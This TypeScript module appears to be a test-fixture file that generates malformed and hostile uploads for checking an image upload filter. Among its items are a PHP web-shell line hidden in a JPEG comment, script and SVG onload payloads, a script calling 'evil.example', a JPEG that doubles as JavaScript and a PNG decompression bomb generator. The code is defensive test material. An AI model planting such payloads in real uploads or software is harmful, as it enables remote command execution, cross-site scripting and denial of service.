import { crc32, deflateSync } from 'node:zlib';
import sharp, { type Sharp } from 'sharp';

export interface HostileFile {
  readonly what: string;
  readonly fileName: string;
  readonly bytes: Buffer;
}

/** A photo as a phone takes it: turned, with its maker and the place where it was taken. */
export function photoWithPlace(): Promise<Buffer> {
  return noise(600, 400)
    .withExif({
      IFD0: { Make: 'Telefon' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '44/1 25/1 57/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '26/1 6/1 9/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
}

/** Whether EXIF data points to a table of places (tag 0x8825), in either byte order. */
export function namesPlace(exif: Buffer | undefined): boolean {
  return (
    exif !== undefined && (exif.includes('\x25\x88', 0, 'latin1') || exif.includes('\x88\x25', 0, 'latin1'))
  );
}

/** Every kind of file that must not get in. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await noise(640, 480).jpeg().toBuffer();
  const png = await noise(300, 200).png().toBuffer();
  const webp = await noise(300, 200).webp().toBuffer();
  const script = Buffer.from('<script>fetch("//evil.example")</script>');
  return [
    { what: 'nothing at all', fileName: 'empty.jpg', bytes: Buffer.alloc(0) },
    { what: 'an SVG called PNG', fileName: 'drawing.png', bytes: svg },
    { what: 'an SVG', fileName: 'drawing.svg', bytes: svg },
    {
      what: 'a page called JPEG',
      fileName: 'page.jpg',
      bytes: Buffer.from('<!doctype html><script>1</script>'),
    },
    { what: 'a JPEG that breaks off', fileName: 'cut.jpg', bytes: jpeg.subarray(0, jpeg.length * 0.6) },
    { what: 'a PNG that breaks off', fileName: 'cut.png', bytes: png.subarray(0, png.length * 0.6) },
    { what: 'a WebP that breaks off', fileName: 'cut.webp', bytes: webp.subarray(0, webp.length * 0.6) },
    { what: 'only the start of a JPEG', fileName: 'start.jpg', bytes: jpeg.subarray(0, 4) },
    { what: 'a bomb of 14,000 by 14,000', fileName: 'bomb.png', bytes: pixelBomb(14_000) },
    { what: 'a JPEG that is a ZIP', fileName: 'zip.jpg', bytes: Buffer.concat([jpeg, emptyZip]) },
    { what: 'a PNG with a page behind it', fileName: 'page.png', bytes: Buffer.concat([png, script]) },
    { what: 'a WebP with a page behind it', fileName: 'page.webp', bytes: Buffer.concat([webp, script]) },
    {
      what: 'a JPEG with PHP in its comment',
      fileName: 'php.jpg',
      bytes: withSegment(jpeg, 0xfe, '<?php system($_GET["c"]); ?>'),
    },
    {
      what: 'a PNG with a script in its text',
      fileName: 'text.png',
      bytes: withChunk(png, 'tEXt', `Comment\0${script.toString()}`),
    },
    {
      what: 'a JPEG that is a script',
      fileName: 'script.jpg',
      bytes: withSegment(jpeg, 0xe0, `JFIF\0\x01\x01\0\0\x01\0\x01\0\0${' '.repeat(500)}*/=alert(1)/*`),
    },
    { what: 'a PNG called JPEG', fileName: 'wrong.jpg', bytes: png },
    { what: 'a JPEG called a program', fileName: 'photo.exe', bytes: jpeg },
    { what: 'a program', fileName: 'photo.jpg', bytes: Buffer.from('MZ\x90\0'.padEnd(400, '\0'), 'latin1') },
    { what: 'a GIF', fileName: 'moving.gif', bytes: await noise(20, 20).gif().toBuffer() },
    { what: 'noise', fileName: 'noise.jpg', bytes: Buffer.alloc(5_000, 0xa7) },
  ];
}

/** A ZIP with nothing in it: a directory that ends the file. */
export const emptyZip = Buffer.from(`PK\x05\x06${'\0'.repeat(18)}`, 'latin1');

const svg = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>',
);

export function noise(width: number, height: number): Sharp {
  const background = { r: 120, g: 90, b: 60 };
  return sharp({
    create: { width, height, channels: 3, background, noise: { type: 'gaussian', mean: 120, sigma: 40 } },
  });
}

/** A valid PNG of one bit a pixel: some kilobytes that become hundreds of megabytes when decoded. */
export function pixelBomb(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((Math.ceil(side / 8) + 1) * side);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, sum]);
}

/** Puts a chunk behind a PNG's header. */
function withChunk(png: Buffer, type: string, content: string): Buffer {
  const afterHeader = 8 + 25;
  return Buffer.concat([
    png.subarray(0, afterHeader),
    chunk(type, Buffer.from(content, 'latin1')),
    png.subarray(afterHeader),
  ]);
}

/** Puts a segment at the start of a JPEG. */
export function withSegment(jpeg: Buffer, marker: number, content: string): Buffer {
  const segment = Buffer.alloc(4);
  segment.set([0xff, marker]);
  segment.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, Buffer.from(content, 'latin1'), jpeg.subarray(2)]);
}
